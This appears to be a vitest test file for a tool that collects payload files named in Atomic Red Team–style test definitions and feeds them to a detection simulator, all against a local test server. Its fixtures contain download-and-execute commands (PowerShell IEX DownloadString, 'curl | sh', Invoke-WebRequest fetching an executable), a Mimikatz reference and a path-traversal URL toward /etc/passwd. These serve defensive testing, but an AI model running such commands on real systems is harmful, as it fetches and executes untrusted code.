/**
 * `atlas payloads fetch` against a local HTTP server on 127.0.0.1 (no other network): text files
 * are stored under host/path with their hash, binaries, pages and failures listed with the reason,
 * and the result is a store the predictor reads.
 */
import { createServer, type Server } from 'node:http';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { atomicsUrls, fetchPayloads, storePath } from '../../src/lib/payloads/fetch.ts';
import { PayloadStore } from '../../src/lib/simulate/payload-store.ts';
import { simulateTest } from '../../src/lib/simulate/harness.ts';
import { removeTemp, tempDir } from '../safety/helpers.ts';

afterAll(removeTemp);

let server: Server;
let base = '';
const requests: string[] = [];

beforeAll(async () => {
  server = createServer((req, res) => {
    requests.push(req.url ?? '');
    if (req.url === '/repo/abc123/Invoke-Thing.ps1')
      return void res.writeHead(200, { 'content-type': 'text/plain' }).end('function Invoke-Thing { "thing" }\nWrite-Host "Invoke-Mimikatz"\n');
    if (req.url === '/repo/abc123/tool.exe')
      return void res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(Buffer.from([0x4d, 0x5a, 0x00, 0x01]));
    if (req.url === '/page') return void res.writeHead(200, { 'content-type': 'text/html' }).end('<!DOCTYPE html><html></html>');
    res.writeHead(404).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  base = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
});
afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

function atomics(): string {
  const dir = tempDir('fetch-atomics');
  mkdirSync(path.join(dir, 'T1059.001'));
  writeFileSync(
    path.join(dir, 'T1059.001', 'T1059.001.yaml'),
    [
      'attack_technique: T1059.001',
      'display_name: PowerShell',
      'atomic_tests:',
      '- name: download and run',
      '  auto_generated_guid: 11111111-1111-1111-1111-111111111111',
      '  supported_platforms: [windows]',
      '  input_arguments:',
      '    url:',
      '      description: script',
      '      type: url',
      `      default: ${base}/repo/abc123/Invoke-Thing.ps1`,
      '  dependencies:',
      '  - description: tool',
      '    prereq_command: exit 1',
      `    get_prereq_command: Invoke-WebRequest ${base}/repo/abc123/tool.exe -OutFile tool.exe`,
      '  executor:',
      '    name: powershell',
      `    command: "IEX (New-Object Net.WebClient).DownloadString('#{url}'); iwr ${base}/page; iwr ${base}/missing.ps1"`,
    ].join('\n'),
  );
  return dir;
}

describe('atlas payloads fetch', () => {
  it('lists every URL a test names, with argument defaults substituted', async () => {
    expect(await atomicsUrls(atomics())).toEqual([
      `${base}/missing.ps1`,
      `${base}/page`,
      `${base}/repo/abc123/Invoke-Thing.ps1`,
      `${base}/repo/abc123/tool.exe`,
    ]);
  });
  it("reads the tests with the build's loader: a default written 1.10 stays 1.10 (js-yaml's JSON schema made it 1.1)", async () => {
    const dir = tempDir('fetch-atomics');
    mkdirSync(path.join(dir, 'T1105'));
    writeFileSync(
      path.join(dir, 'T1105', 'T1105.yaml'),
      [
        'attack_technique: T1105',
        'display_name: Ingress Tool Transfer',
        'atomic_tests:',
        '- name: versioned download',
        '  auto_generated_guid: 22222222-2222-2222-2222-222222222222',
        '  supported_platforms: [linux]',
        '  input_arguments:',
        '    version:',
        '      description: release',
        '      type: string',
        '      default: 1.10',
        '  executor:',
        '    name: sh',
        '    command: "curl -sSL https://h/releases/v#{version}/tool.sh | sh"',
      ].join('\n'),
    );
    expect(await atomicsUrls(dir)).toEqual(['https://h/releases/v1.10/tool.sh']);
  });
  it('keeps paths inside the store', () => {
    expect(storePath('https://raw.githubusercontent.com/a/b/../../../etc/passwd?x=1')).toBe('raw.githubusercontent.com/etc/passwd');
    expect(storePath('https://example.org/')).toBeUndefined();
  });
  it('stores text files, lists the rest with the reason, and the store feeds predictions', async () => {
    const dir = atomics();
    const out = tempDir('fetch-out');
    const report = await fetchPayloads({ atomics: dir, out });
    expect(report).toEqual({ urls: 4, stored: 1, skipped: 2, unresolved: 1 });
    const index = JSON.parse(readFileSync(path.join(out, 'index.json'), 'utf8'));
    const host = base.replace('http://', '').replace(':', '_');
    expect(index[`${base}/repo/abc123/Invoke-Thing.ps1`]).toMatchObject({ file: `${host}/repo/abc123/Invoke-Thing.ps1`, bytes: 63 });
    expect(index.skipped).toEqual([
      { url: `${base}/page`, why: 'a web page' },
      { url: `${base}/repo/abc123/tool.exe`, why: 'binary content' },
    ]);
    expect(index.unresolved).toEqual([{ url: `${base}/missing.ps1`, why: 'HTTP 404' }]);
    const run = simulateTest(
      {
        guid: 'g',
        platforms: ['windows'],
        executor: 'powershell',
        elevationRequired: false,
        commandResolved: `IEX (New-Object Net.WebClient).DownloadString('${base}/repo/abc123/Invoke-Thing.ps1')`,
      },
      PayloadStore.open(out, undefined),
    );
    expect(run.events.some((e) => e.source && String(e.fields['ScriptBlockText']).includes('Invoke-Mimikatz'))).toBe(true);
  });
});
